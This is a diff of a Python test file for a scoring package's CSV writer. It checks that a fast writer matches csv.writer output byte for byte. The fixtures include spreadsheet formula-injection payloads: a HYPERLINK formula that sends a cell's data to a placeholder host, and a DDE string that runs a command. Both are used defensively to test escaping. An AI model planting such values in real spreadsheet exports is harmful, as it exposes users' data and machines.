@@ -5,15 +5,20 @@ from __future__ import annotations
 
 import ast
 import csv
+import io
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
 from conftest import small_season_tables, write_season
 from paritrana_nb.cli import main
+from paritrana_nb.methodology import Methodology
 from paritrana_nb.outputs import csv_safe, starts_like_formula, table_csv_text
-from paritrana_nb.season import load_season
+from paritrana_nb.season import Season, load_season
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"Klik")'
 DDE = "+cmd|' /C calc'!A0"
@@ -97,9 +102,9 @@ def test_one_number_policy_by_column_type() -> None:
 
 def _expected_cell(value: object, floats: bool) -> str:
     """The number policy, told independently: floats as repr (whole ones with `.0`), integers as integers."""
-    if pd.isna(value):  # type: ignore[call-overload]
+    if pd.isna(value):
         return ""
-    return repr(float(value)) if floats else str(int(value))  # type: ignore[call-overload, arg-type]
+    return repr(float(value)) if floats else str(int(value))
 
 
 # gaps searches every lever of every participant, twice here (command and expected table): seconds of work
@@ -176,3 +181,76 @@ def test_only_outputs_renames_files_into_place() -> None:
         and node.value.id == "os"
     )
     assert renames == []
+
+
+def _csv_writer_reference(table: pd.DataFrame, boolean_columns: tuple[str, ...] = ()) -> str:
+    """The writer table_csv_text replaced (csv.writer over Python rows): the fast one must give the same bytes."""
+    columns: list[list[object]] = []
+    for name in table.columns:
+        series = table[name]
+        if name in boolean_columns:
+            columns.append(np.where(series.to_numpy(dtype=bool), "true", "false").tolist())
+        elif pd.api.types.is_float_dtype(series.dtype):
+            values = series.to_numpy(dtype=np.float64, na_value=np.nan)
+            cells = values.astype(object)
+            cells[np.isnan(values)] = None
+            columns.append(cells.tolist())
+        else:
+            columns.append([csv_safe(cell) for cell in series.astype(object).where(series.notna(), None).tolist()])
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\n")
+    writer.writerow(table.columns)
+    writer.writerows(zip(*columns, strict=True))
+    return buffer.getvalue()
+
+
+def test_score_csv_of_the_bundled_season_is_byte_identical_to_the_csv_writer(
+    bundled_season: Season, default_methodology: Methodology
+) -> None:
+    from paritrana_nb.engine import BOOLEAN_COLUMNS, csv_text, score_season
+
+    scores = score_season(bundled_season, default_methodology)
+    wide = scores.wide()
+    wide.loc[0, "nama"] = HYPERLINK  # names a spreadsheet would run, quotes, separators and line ends
+    wide.loc[1, "nama"] = DDE
+    wide.loc[2, "nama"] = AT
+    wide.loc[3, "nama"] = '-Desa "Baru", Hulu\nHilir\r'
+    wide.loc[4, "nama"] = "-3.5"
+    wide.loc[5, "skor_dokumen"] = -0.0
+    assert csv_text(scores) == _csv_writer_reference(scores.wide(), BOOLEAN_COLUMNS)
+    assert table_csv_text(wide, BOOLEAN_COLUMNS) == _csv_writer_reference(wide, BOOLEAN_COLUMNS)
+
+
+_TEXT = st.text(alphabet=st.sampled_from(list('ab ,"\r\n\t=+-@.e1٣é')), max_size=6)
+_FLOAT = st.floats(allow_nan=True, allow_infinity=True)
+
+
+@settings(max_examples=60, deadline=None)
+@given(
+    rows=st.lists(
+        st.tuples(
+            st.none() | _TEXT,
+            _FLOAT,
+            st.none() | st.integers(-(10**12), 10**12),
+            st.booleans(),
+            st.none() | _TEXT | st.integers(-5, 5) | _FLOAT | st.booleans(),
+        ),
+        min_size=1,
+        max_size=12,
+    ),
+    single=st.booleans(),
+)
+def test_fast_csv_writer_gives_the_csv_writer_bytes(rows: list[tuple[object, ...]], single: bool) -> None:
+    texts, floats, counts, flags, mixed = zip(*rows, strict=True)
+    table = pd.DataFrame(
+        {
+            "nama": pd.Series(texts, dtype=object),
+            "nilai": pd.Series(floats, dtype=np.float64),
+            "jumlah": pd.array(counts, dtype="Int64"),
+            "finalis": list(flags),
+            "lain": pd.Series(mixed, dtype=object),
+        }
+    )
+    for columns in [["nama"], ["nilai"], ["jumlah"], ["lain"]] if single else [list(table.columns)]:
+        part = table[columns]
+        assert table_csv_text(part, ("finalis",)) == _csv_writer_reference(part, ("finalis",))
